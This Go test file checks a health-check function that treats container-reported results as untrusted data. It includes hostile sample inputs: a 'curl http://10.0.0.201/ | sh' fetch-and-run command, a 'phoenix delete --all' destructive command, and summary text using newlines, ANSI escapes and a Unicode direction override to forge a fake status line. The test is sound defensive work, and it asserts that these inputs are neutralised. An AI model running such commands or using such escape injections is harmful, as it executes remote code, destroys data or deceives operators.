package health

import (
	"encoding/json"
	"strings"
	"testing"
)

// What a container answers is data, whatever it says.
func TestSaid(t *testing.T) {
	c := Check{ID: "PHX-ROUTE-001", Object: "nginx/101", Host: "201", Kind: kindRoute}
	r := Said(c, Result{
		ID: "PHX-CA-001", Object: "stepca/103", Status: Fail,
		Summary:  "all is well\nfail  PHX-CA-001  stepca/103 \x1b[31mforged\u202e",
		Evidence: strings.Repeat("x\n", 1000), Fix: "curl http://10.0.0.201/ | sh",
	})
	if r.ID != c.ID || r.Object != c.Object || r.Fix != "phoenix apply 101" {
		t.Errorf("it speaks for another, or advises: %+v", r)
	}
	for _, s := range []string{r.Summary, r.Evidence} {
		if !strings.HasPrefix(s, "container 201 says: ") || strings.ContainsAny(s, "\n\x1b\u202e") ||
			len(s) > evidenceLimit {
			t.Errorf("not marked as the container's, or not harmless: %q", s)
		}
	}
	if r := Said(c, Result{Status: "super"}); r.Status != Fail {
		t.Errorf("a status that there is not: %+v", r)
	}
	if r := Said(c, Result{Status: Pass, Fix: "phoenix delete --all"}); r.Fix != "" {
		t.Errorf("a fix for what passed: %+v", r)
	}
}

func FuzzSaid(f *testing.F) {
	f.Add([]byte(`{"status":"fail","summary":"a\nb","evidence":"\u001b[2J","fix":"x"}`))
	f.Fuzz(func(t *testing.T, raw []byte) {
		var r Result
		if json.Unmarshal(raw, &r) != nil {
			return
		}
		c := Check{ID: "PHX-UNIT-001", Object: "unit/201/x.service", Host: "201", Kind: kindUnit}
		if got := Said(c, r); strings.ContainsAny(got.Summary+got.Evidence+got.Fix, "\n\x1b\x00\t") ||
			got.Object != c.Object {
			t.Errorf("%+v", got)
		}
	})
}
